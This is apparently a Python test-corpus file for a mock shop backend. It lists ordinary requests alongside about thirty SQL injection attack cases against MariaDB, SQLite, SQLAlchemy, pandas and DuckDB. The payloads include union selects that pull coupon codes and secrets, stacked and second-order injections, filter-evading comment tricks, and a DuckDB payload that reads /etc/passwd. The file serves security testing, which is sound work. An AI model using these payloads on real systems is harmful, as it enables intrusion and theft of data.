"""A shop on MariaDB, with reports in SQLite, DuckDB, SQLAlchemy and pandas."""

from tests.honest.corpus.cases import Attack
from tests.honest.corpus.tenth import (
    LETTER,
    MARKUP,
    PEOPLE,
    PLACES,
    TRACE,
    alb,
    api,
    bus,
    form,
    graphql,
    http,
    put,
    queue,
    topic,
)

NEEDS = ("mariadb", "aws-http")
COUPON = "coupon-secret-5527"


def _product(key: str) -> dict[str, object]:
    return api("GET", f"/products/{key}", ids={"productId": key})


def _filter(**query: str) -> dict[str, object]:
    return api("GET", "/products", query=query)


def _customer(name: str, email: str, address: str) -> dict[str, object]:
    return http("POST", "/customers", {"name": name, "email": email, "address": address})


def _sign_in(email: str, password: str) -> dict[str, object]:
    return form("/login", {"email": email, "password": password})


def _order(items: list[object], note: str = "") -> dict[str, object]:
    return bus("OrderPlaced", {"items": items, "note": note}, "shop.orders")


def _points(points: object, name: str, customer: object = 1) -> dict[str, object]:
    return topic({"points": points, "name": name, "customer": customer})


def _csv(key: str, text: str) -> tuple[str, dict[str, object]]:
    return ("upload_csv", http("PUT", "/catalog", {"key": key, "csv": text}))


def _history(**query: str) -> dict[str, object]:
    return http("GET", "/history", query=query)


def _address(user: str, city: str) -> dict[str, object]:
    return http("PUT", "/address", {"user": user, "city": city})


REQUESTS = {
    "get_product": [
        _product("1"),
        _product("2"),
        _product("SKU-77_b"),
        _product("9f1c2e0a-77aa-4f0e-8a53-1f2e3d4c5b6a"),
    ],
    "filter_products": [
        _filter(category="tea"),
        _filter(category="mugs", min="5", max="20.50"),
        _filter(category="women's shoes & more"),
        _filter(name='it\'s 50% "off" or 1=1 -- x'),
        _filter(name="Zoë\\", min="0"),
    ],
    "add_customer": [
        _customer(PEOPLE[0], "s.o'connor@example.ie", PLACES[0]),
        _customer(PEOPLE[7], '"annie rao"@example.in', PLACES[3]),
        _customer("Robert'); DROP TABLE students;--", "bobby@example.org", "C:\\Users\\bob\n2nd line"),
        _customer(PEOPLE[4], "x@example.fr", LETTER),
    ],
    "sign_in": [
        _sign_in("admin@example.org", "s3cret"),
        _sign_in("o'neil@example.org", "p'a\"ss w0rd; -- #1"),
        _sign_in("zoë@example.de", "' OR no; it's my /*real*/ pass%word"),
    ],
    "stock_batch": [
        queue({"id": 1, "delta": 5}, {"id": 2, "delta": -1}),
        queue({"id": 3, "delta": 10, "comment": "it's; drop table"}),
        queue({"id": 1, "delta": -2.0}, {"id": 404, "delta": 1}),
    ],
    "order_event": [
        _order([1, 2], LETTER),
        _order([3], "Select from union; it's"),
        _order([2, 3, 1], MARKUP),
    ],
    "set_points": [_points(5, PEOPLE[0]), _points(-3, PEOPLE[1]), _points("12.5", "O'Hara %s & %d")],
    "upload_csv": [
        _csv("2026/a b (1).csv", "id,name,price\n1,O'Neil,5\n")[1],
        _csv("x.csv", "name;note\n" + TRACE)[1],
        _csv("o'reilly/ü.csv", '\ufeffid,"na,me",price\n7,"a\n\'b\'",1.5\n')[1],
    ],
    "catalog_csv": [put("tenth-catalogs", "2026/a b (1).csv"), put("tenth-catalogs", "o'reilly/ü.csv")],
    "price_history": [
        _history(product="tea"),
        _history(product="o'mug", by="month", since="2026-01-01"),
        _history(product="x' or 1=1 --", by="year"),
        _history(product="tea", by="%Y-W%W", since="2025-12-31T23:00:00+00:00"),
    ],
    "revenue": [
        graphql("revenue", region="EMEA", group="region"),
        graphql("revenue", region="Côte d'Ivoire", group="day"),
        graphql("revenue", region="' union select * from x --", group="note"),
    ],
    "frame": [{"customerId": "c-1"}, {"customerId": "c-2"}, {"customerId": "urn:uuid:5f0a-1"}],
    "lake": [
        alb("GET", "/lake", query={"day": "2026-01-01"}),
        alb("GET", "/lake", query={"day": "2026-01-02"}),
    ],
    "athena": [
        put("logs", "logs/year=2026/month=01/day=05/app 1 (copy).gz"),
        put(
            "logs",
            "logs/dt=2026-01-05/region=eu-central-1/x.parquet",
            "logs/dt=2026-01-06/region=us/y.parquet",
        ),
        put("logs", "raw/tenant=acme & co/hour=07/file+1=2.json"),
    ],
    "save_address": [
        _address("u1", "Villers-l'Évêque"),
        _address("u2", "Saint-Louis-du-Ha! Ha!"),
        _address("u'3", PLACES[1]),
        _address("u4", "Berlin"),
    ],
    "shipping": [
        {"user": "u4"},
        {"user": "u'3"},
        {"user": "u1"},
        {"user": "nobody"},
        {"user": 'o\'nobody "x" or 1=1'},
        {"user": "u-404"},
    ],
}
UNION = "union select code, percent, 1 from coupons"
ATTACKS = [
    Attack(
        "sql, MySQL, union", "get_product", _product("x' union select 1, code, 2 from coupons -- "), COUPON
    ),
    Attack(
        "sql, MySQL, union",
        "get_product",
        _product("0'/*!50000union*//*!50000select*/1,code,2 from coupons#"),
        COUPON,
    ),
    Attack("sql, MySQL, or", "get_product", _product("x' || '1"), "Green tea"),
    Attack("sql, MySQL, or", "get_product", _product("x'='"), "Green tea"),
    Attack(
        "sql, MySQL, quote",
        "filter_products",
        _filter(category='x" union select 1, code from coupons -- '),
        COUPON,
    ),
    Attack(
        "sql, MySQL, number",
        "filter_products",
        _filter(min="0 and 1=0 union select percent, code from coupons"),
        COUPON,
    ),
    Attack(
        "sql, MySQL, two fields",
        "filter_products",
        _filter(min="99 union select 1, /*", max="*/ code from coupons"),
        COUPON,
    ),
    Attack("sql, MySQL, backslash", "sign_in", _sign_in("\\", " or 1=1 -- "), "admin"),
    Attack(
        "sql, MySQL, backslash", "sign_in", _sign_in("x\\' union select code, 1 from coupons # ", "x"), COUPON
    ),
    Attack(
        "sql, MySQL, queue",
        "stock_batch",
        queue({"id": 1, "delta": "0, name = (select code from coupons)"}),
        COUPON,
    ),
    Attack(
        "sql, MySQL, stacked",
        "stock_batch",
        queue({"id": "1; insert into products (id, name) select 8, code from coupons", "delta": 1}),
        COUPON,
    ),
    Attack(
        "sql, MySQL, list", "order_event", _order(["0) union select 1, code, '' from coupons -- "]), COUPON
    ),
    Attack(
        "sql, MySQL, beside parameters",
        "set_points",
        _points("1, address = (select code from coupons)", "x"),
        COUPON,
    ),
    Attack(
        "sql, MySQL, hex", "set_points", _points("0, address = concat(0x6f776e2d, 0x6564)", "x"), "own-ed"
    ),
    Attack(
        "sql, SQLite, file",
        "catalog_csv",
        put("tenth-catalogs", "e1.csv"),
        COUPON,
        before=[_csv("e1.csv", "id,price\n1,(select k from keys)\n")],
    ),
    Attack(
        "sql, SQLite, file",
        "catalog_csv",
        put("tenth-catalogs", "e 2.csv"),
        COUPON,
        before=[_csv("e 2.csv", 'id,price\n1,"5), ((select k from keys), 1"\n')],
    ),
    Attack(
        "sql, SQLite",
        "price_history",
        _history(product="x", since="z' union select k, 1 from keys --"),
        COUPON,
    ),
    Attack(
        "sql, SQLite",
        "price_history",
        _history(
            product="x", by="%Y', day), avg(price) from h where :product = '' union select k, 1 from keys --"
        ),
        COUPON,
    ),
    Attack(
        "sql, SQLAlchemy",
        "revenue",
        graphql("revenue", region="x", group="1 union select secret, 1 from vault"),
        COUPON,
    ),
    Attack(
        "sql, SQLAlchemy",
        "revenue",
        graphql("revenue", region="EMEA", group="region having 1=0 union all select 'k', secret from vault"),
        COUPON,
    ),
    Attack("sql, pandas", "frame", {"customerId": "x' union select secret, 1 from vault --"}, COUPON),
    Attack("sql, pandas", "frame", {"customerId": "x' or ''='"}, "c-2"),
    Attack(
        "sql, DuckDB",
        "lake",
        alb(
            "GET",
            "/lake",
            query={"day": "2026-01-01.csv') union all select 1, content from read_text('/etc/passwd') --"},
        ),
        "root:x:0",
    ),
    Attack("path, DuckDB", "lake", alb("GET", "/lake", query={"day": "*"}), 'Neil\\"], [1'),
    Attack(
        "sql, S3 key",
        "athena",
        put("logs", "logs/dt=x'); insert into partitions values ('own'||'ed-7331');--/y"),
        "owned-7331",
    ),
    Attack(
        "sql, second order",
        "shipping",
        {"user": "e1"},
        COUPON,
        before=[("save_address", _address("e1", 'x" union select code from coupons -- '))],
    ),
    Attack(
        "sql, second order",
        "shipping",
        {"user": "e2"},
        "6.90",
        before=[("save_address", _address("e2", 'x" or city like "P%'))],
    ),
    Attack(
        "sql, second order",
        "shipping",
        {"user": "e'3"},
        COUPON,
        before=[
            ("save_address", _address("e'3", 'x" union/**/select group_concat(code, 0x7e) from coupons#'))
        ],
    ),
]
